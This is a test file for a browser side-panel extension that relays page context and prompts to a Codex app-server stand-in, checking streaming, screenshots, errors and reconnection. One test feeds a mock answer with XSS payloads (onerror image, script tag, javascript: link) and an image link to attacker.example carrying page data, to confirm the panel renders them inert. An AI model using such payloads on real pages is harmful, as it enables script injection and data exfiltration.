// The side panel end to end: Debian's Chromium with the built extension, the built host through
// the manifest that `vellora-client install` wrote, and the stand-in for `codex app-server`.
// Each test opens its own panel page (sidepanel.html?tab=<id>), which starts its own host.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { renameSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { available, completed, contextOf, delta, EXTENSION_ID, failed, Harness, PAGE_COLOUR, pause, png, send, TIMEOUT, turnEnded, turnStarted } from "./harness.mjs";

const harness = new Harness();
const skip = available ? false : "chromium is not installed";

before(async () => {
  if (available) await harness.start();
}, { timeout: 180_000 });
after(async () => {
  await harness.stop();
});

test("the extension is loaded with its fixed ID", { skip }, () => {
  assert.equal(new URL(harness.worker.url()).host, EXTENSION_ID);
});

test("a prompt streams its answer piece by piece and sends the page's context", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({
    "turn/start": [
      turnStarted(),
      delta("## Plan\n\nFirst piece. "),
      pause(2),
      delta("Second piece.\n\n```js\nconst answer = 42;\nconsole.log(answer);\n```\n\n- one\n- two\n"),
      completed(),
    ],
  });
  await harness.page.evaluate(() => {
    const range = document.createRange();
    range.selectNodeContents(document.getElementById("chosen"));
    getSelection().removeAllRanges();
    getSelection().addRange(range);
  });
  const panel = await harness.openPanel();
  await send(panel, "What is this page about?\nAnswer briefly.");
  const answer = panel.locator(".turn .answer").first();
  await answer.getByText("First piece.").waitFor({ timeout: TIMEOUT });
  assert.equal(await answer.getByText("Second piece.").count(), 0, "the second piece is shown only after it arrives");
  assert.equal(await turnEnded(panel), "done");
  assert.equal(await answer.locator("h2").textContent(), "Plan");
  assert.equal(await answer.locator("pre code").textContent(), "const answer = 42;\nconsole.log(answer);\n");
  assert.equal(await answer.locator(".code-block button.copy").count(), 1);
  assert.equal(await answer.locator("li").count(), 2);
  await harness.screenshot(panel, "streamed-answer-light");

  const [turn] = harness.paramsOf("turn/start");
  assert.match(turn.input[0].text, /^User prompt:\nWhat is this page about\?\nAnswer briefly\.\n\n/);
  const context = contextOf(turn);
  assert.equal(context.url, harness.pageURL);
  assert.equal(context.title, "Vellora test page");
  assert.equal(context.selection, "Apples are picked in autumn.");
  assert.match(context.text, /Fruit report/);
  assert.deepEqual(context.headings, [{ level: 1, text: "Fruit report" }, { level: 2, text: "Pictures" }]);
  assert.deepEqual(context.links.map((link) => link.text), ["Next page", "elsewhere"]);
  assert.equal(context.viewportCapture, undefined);

  // Every image's selector matches exactly that image in the page, duplicate and odd ids too.
  assert.equal(context.images.length, 4);
  const matches = await harness.page.evaluate(
    (selectors) => selectors.map((selector) => Array.from(document.querySelectorAll(selector)).map((image) => image.alt)),
    context.images.map((image) => image.selector),
  );
  assert.deepEqual(matches, context.images.map((image) => [image.alt]));
  assert.deepEqual(context.images.map((image) => image.alt), ["first", "second", "shares an id", "odd id"]);
  assert.deepEqual(context.images[0], { selector: context.images[0].selector, src: new URL("/a.png", harness.pageURL).href, alt: "first", width: 4, height: 4 });
  await panel.close();
});

test("Shift+Enter adds a line and the dark appearance follows the system", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({ "turn/start": [turnStarted(), delta("Dark answer with `code`."), completed()] });
  const panel = await harness.openPanel({ colorScheme: "dark" });
  const prompt = panel.locator(".prompt");
  await prompt.fill("first line");
  await prompt.press("Shift+Enter");
  await prompt.pressSequentially("second line");
  assert.equal(await prompt.inputValue(), "first line\nsecond line");
  assert.equal(await panel.locator(".turn").count(), 0);
  await prompt.press("Enter");
  assert.equal(await turnEnded(panel), "done");
  assert.equal(harness.paramsOf("turn/start")[0].input[0].text.split("\n\n")[0], "User prompt:\nfirst line\nsecond line");
  const background = await panel.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(background, "rgb(23, 25, 29)");
  await harness.screenshot(panel, "panel-dark");
  await panel.close();
});

test("a screenshot turn sends the visible page as an image item", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({ "turn/start": [turnStarted(), delta("Seen."), completed()] });
  const panel = await harness.openPanel();
  await harness.page.bringToFront();
  await panel.locator("#include-screenshot").check();
  await send(panel, "Describe the picture");
  assert.equal(await turnEnded(panel), "done");
  const [turn] = harness.paramsOf("turn/start");
  assert.equal(turn.input.length, 2, await panel.locator(".notes").allTextContents().then(String));
  const image = turn.input[1];
  assert.equal(image.type, "image");
  assert.match(image.url, /^data:image\/jpeg;base64,/);
  const context = contextOf(turn);
  assert.equal(context.viewportCapture.dataUrl, "[attached as image input]");
  assert.ok(context.viewportCapture.width > 0 && context.viewportCapture.height > 0);
  // A pixel of the picture has the page's own colour (JPEG: within a small distance).
  const pixel = await panel.evaluate(async (url) => {
    const bitmap = await createImageBitmap(await (await fetch(url)).blob());
    const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
    const context2d = canvas.getContext("2d");
    context2d.drawImage(bitmap, 0, 0);
    return Array.from(context2d.getImageData(bitmap.width - 10, bitmap.height - 10, 1, 1).data.slice(0, 3));
  }, image.url);
  for (let channel = 0; channel < 3; channel++) assert.ok(Math.abs(pixel[channel] - PAGE_COLOUR[channel]) <= 12, `pixel ${pixel}`);
  await panel.close();
});

test("an attachment appears under the answer with a download link", { skip, timeout: 120_000 }, async () => {
  const saved = join(harness.home, ".codex", "generated_images", "picture.png");
  execFileSync("mkdir", ["-p", join(harness.home, ".codex", "generated_images")]);
  writeFileSync(saved, png(8, 8, [30, 60, 200]));
  harness.writeScenario({
    "turn/start": [
      turnStarted(),
      delta("Here is your picture."),
      {
        notify: "item/completed",
        params: { threadId: "thread-1", turnId: "turn-1", item: { type: "imageGeneration", id: "ig_1", status: "completed", savedPath: saved } },
      },
      completed(),
    ],
  });
  const panel = await harness.openPanel();
  await send(panel, "Draw something");
  assert.equal(await turnEnded(panel), "done");
  const figure = panel.locator(".attachment");
  assert.equal(await figure.locator("img").getAttribute("alt"), "Generated image");
  assert.match(await figure.locator("img").getAttribute("src"), /^data:image\/png;base64,/);
  const link = figure.getByRole("link", { name: "Download" });
  assert.match(await link.getAttribute("download"), /\.png$/);
  await harness.screenshot(panel, "attachment-light");
  await panel.close();
});

test("a failed turn shows the host's message with its code", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({ "turn/start": [turnStarted(), delta("Partly "), failed("The model is overloaded.")] });
  const panel = await harness.openPanel();
  await send(panel, "Try this");
  assert.equal(await turnEnded(panel), "failed");
  const status = await panel.locator(".turn-status.failed").textContent();
  assert.match(status, /The model is overloaded\..*\(chat_turn_failed\)/);
  await harness.screenshot(panel, "error-light");
  await panel.close();
});

test("a hostile answer runs nothing and shows its markup as text", { skip, timeout: 120_000 }, async () => {
  const hostile =
    'Look: <img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script>\n\n' +
    "[click me](javascript:window.__pwned=3) [safe](https://example.com/a) ![secret](https://attacker.example/?d=page)\n";
  harness.writeScenario({ "turn/start": [turnStarted(), delta(hostile.slice(0, 20)), delta(hostile.slice(20)), completed()] });
  const panel = await harness.openPanel();
  await send(panel, "Be hostile");
  assert.equal(await turnEnded(panel), "done");
  const answer = panel.locator(".turn .answer").first();
  assert.equal(await answer.locator("img, script").count(), 0);
  assert.match(await answer.textContent(), /<img src=x onerror="window.__pwned=1">/);
  assert.match(await answer.textContent(), /<script>window.__pwned=2<\/script>/);
  assert.equal(await answer.locator("a[href^='javascript']").count(), 0);
  const safe = answer.getByRole("link", { name: "safe" });
  assert.equal(await safe.getAttribute("rel"), "noopener noreferrer");
  assert.equal(await safe.getAttribute("target"), "_blank");
  assert.equal(await answer.getByRole("link", { name: "Image: secret" }).getAttribute("href"), "https://attacker.example/?d=page");
  assert.equal(await panel.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(panel.errors ?? [], []);
  await panel.close();
});

test("the picker sends the chosen command", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({
    "skills/list": [
      {
        result: {
          data: [
            {
              cwd: "/",
              skills: [
                { name: "review", path: "/home/u/.codex/skills/review/SKILL.md", interface: { displayName: "Code review", shortDescription: "Reviews a change" } },
                { name: "deploy", path: "/home/u/.codex/skills/deploy/SKILL.md", description: "Ships it" },
              ],
            },
          ],
        },
      },
    ],
    "plugin/list": [{ result: { marketplaces: [{ name: "market", plugins: [{ name: "linter", interface: { displayName: "Linter" } }] }] } }],
    "app/list": [{ result: { data: [{ id: "cal", name: "Calendar", description: "Your calendar" }], nextCursor: null } }],
    "model/list": [{ result: { data: [{ id: "gpt-x", displayName: "GPT X", isDefault: true }], nextCursor: null } }],
    "turn/start": [turnStarted(), delta("Reviewed."), completed()],
  });
  const panel = await harness.openPanel();
  await panel.getByRole("button", { name: "Commands" }).click();
  await panel.locator(".picker-item").first().waitFor({ timeout: TIMEOUT });
  assert.deepEqual(await panel.locator(".picker-title").allTextContents(), ["Code review", "deploy", "Linter", "Calendar"]);
  assert.match(await panel.locator(".picker-models").textContent(), /GPT X \(default\)/);
  await panel.locator(".picker-search").fill("review");
  assert.deepEqual(await panel.locator(".picker-title").allTextContents(), ["Code review"]);
  await harness.screenshot(panel, "picker-light");
  await panel.locator(".picker-item").first().click();
  assert.equal(await panel.locator(".chip").count(), 1);
  await send(panel, "Review this page");
  assert.equal(await turnEnded(panel), "done");
  const text = harness.paramsOf("turn/start")[0].input[0].text;
  assert.match(text, /- skill: Code review\n  name: review\n  path: \/home\/u\/\.codex\/skills\/review\/SKILL\.md/);
  assert.equal(await panel.locator(".chip").count(), 0);
  await panel.close();
});

test("Stop ends the running turn with the text so far", { skip, timeout: 120_000 }, async (t) => {
  // Hosts that do not know "chat.cancel" answer it as an unsupported request.
  const reply = execFileSync(process.env.VELLORA_CLIENT, ["send", '{"type":"chat.cancel","requestId":"probe"}'], { env: harness.environment }).toString();
  if (reply.includes("unsupported_message")) {
    t.skip("this host does not support chat.cancel");
    return;
  }
  harness.writeScenario({
    "turn/start": [turnStarted(), delta("Started, and then ")],
    "turn/interrupt": [{ result: {} }, completed("turn-1", "interrupted")],
  });
  const panel = await harness.openPanel();
  await send(panel, "Take your time");
  await panel.locator(".turn .answer").getByText("Started, and then").waitFor({ timeout: TIMEOUT });
  await panel.getByRole("button", { name: "Stop" }).click();
  assert.equal(await turnEnded(panel), "stopped");
  assert.match(await panel.locator(".turn .answer").textContent(), /Started, and then/);
  assert.equal(harness.paramsOf("turn/interrupt").length, 1);
  assert.equal(await panel.getByRole("button", { name: "Stop" }).isVisible(), false);
  await panel.close();
});

test("a host that is not installed shows the setup message", { skip, timeout: 120_000 }, async () => {
  const moved = `${harness.manifestPath}.away`;
  renameSync(harness.manifestPath, moved);
  try {
    const panel = await harness.openPanel();
    const banner = panel.locator(".banner");
    await banner.getByText("Fix Browser Connection").waitFor({ timeout: TIMEOUT });
    assert.match(await banner.textContent(), /vellora-client fix/);
    await send(panel, "Hello?");
    assert.equal(await turnEnded(panel), "interrupted");
    await harness.screenshot(panel, "host-not-installed");
    await panel.close();
  } finally {
    renameSync(moved, harness.manifestPath);
  }
});

test("an answer streamed one character at a time renders as the whole answer does", { skip, timeout: 120_000 }, async () => {
  const answer =
    "## Steps\n\nRun `make` first.\n\n```sh\nmake all\n\nmake test\n```\n\n1. one\n2. two\n\n~~~\nplain ``` inside\n~~~\nLast *line*";
  harness.writeScenario({ "turn/start": [turnStarted(), ...Array.from(answer, (char) => delta(char)), completed()] });
  const panel = await harness.openPanel();
  await send(panel, "Stream slowly");
  assert.equal(await turnEnded(panel), "done");
  const rendered = panel.locator(".turn .answer").first();
  assert.equal(await rendered.locator("h2").textContent(), "Steps");
  assert.equal(await rendered.locator("p code").textContent(), "make");
  assert.deepEqual(await rendered.locator("pre code").allTextContents(), ["make all\n\nmake test\n", "plain ``` inside\n"]);
  assert.deepEqual(await rendered.locator("ol li").allTextContents(), ["one", "two"]);
  assert.equal(await rendered.locator("em").textContent(), "line");
  await panel.close();
});

test("on open the panel says which part is not ready", { skip, timeout: 120_000 }, async () => {
  const auth = join(harness.home, ".codex", "auth.json");
  renameSync(auth, `${auth}.away`);
  try {
    const panel = await harness.openPanel();
    await panel.locator(".banner").getByText("codex login").waitFor({ timeout: TIMEOUT });
    await harness.screenshot(panel, "health-banner");
    await panel.close();
  } finally {
    renameSync(`${auth}.away`, auth);
  }
});

test("a host that exits mid-turn marks the turn interrupted, and the next turn reconnects", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({ "turn/start": [turnStarted(), delta("Working on it"), pause(5), completed()] });
  const panel = await harness.openPanel();
  await send(panel, "First question");
  await panel.locator(".turn .answer").getByText("Working on it").waitFor({ timeout: TIMEOUT });
  const hosts = harness.hostProcesses();
  assert.equal(hosts.length, 1, `host processes: ${hosts}`);
  process.kill(hosts[0], "SIGKILL");
  assert.equal(await turnEnded(panel, 0), "interrupted");
  assert.match(await panel.locator(".turn-status.interrupted").textContent(), /^Interrupted: /);

  harness.writeScenario({ "turn/start": [turnStarted(), delta("Fresh answer."), completed()] });
  await send(panel, "Second question");
  assert.equal(await turnEnded(panel, 1), "done");
  assert.match(await panel.locator(".turn").nth(1).locator(".restarted").textContent(), /Codex starts afresh/);
  assert.equal(await panel.locator(".turn").nth(1).locator(".answer").textContent(), "Fresh answer.\n");
  await panel.close();
});

test("no screenshot is taken of a tab that is not the active one of its window", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({ "turn/start": [turnStarted(), delta("No picture."), completed()] });
  const panel = await harness.openPanel();
  await panel.bringToFront();
  assert.equal(await harness.worker.evaluate(async (id) => (await chrome.tabs.get(id)).active, harness.tabId), false);
  await panel.locator("#include-screenshot").check();
  await send(panel, "Look at it");
  assert.equal(await turnEnded(panel), "done");
  assert.match(await panel.locator(".notes").textContent(), /not the active tab of its window/);
  const [turn] = harness.paramsOf("turn/start");
  assert.equal(turn.input.length, 1);
  assert.equal(contextOf(turn).viewportCapture, undefined);
  assert.equal(contextOf(turn).title, "Vellora test page");
  await panel.close();
});

test("a page where scripts cannot run gets the prompt without page context", { skip, timeout: 120_000 }, async () => {
  harness.writeScenario({ "turn/start": [turnStarted(), delta("Without context."), completed()] });
  const browserPage = await harness.context.newPage();
  await browserPage.goto("chrome://version/");
  const tabId = await harness.worker.evaluate(async () => (await chrome.tabs.query({ url: "chrome://version/" }))[0]?.id);
  const panel = await harness.context.newPage();
  await panel.setViewportSize({ width: 320, height: 640 });
  await panel.goto(`chrome-extension://${EXTENSION_ID}/sidepanel.html?tab=${tabId}`);
  await send(panel, "What is this?");
  assert.equal(await turnEnded(panel), "done");
  assert.match(await panel.locator(".notes").textContent(), /does not let extensions read it/);
  const [turn] = harness.paramsOf("turn/start");
  assert.equal(contextOf(turn), undefined);
  assert.match(turn.input[0].text, /^User prompt:\nWhat is this\?/);
  await panel.close();
  await browserPage.close();
});
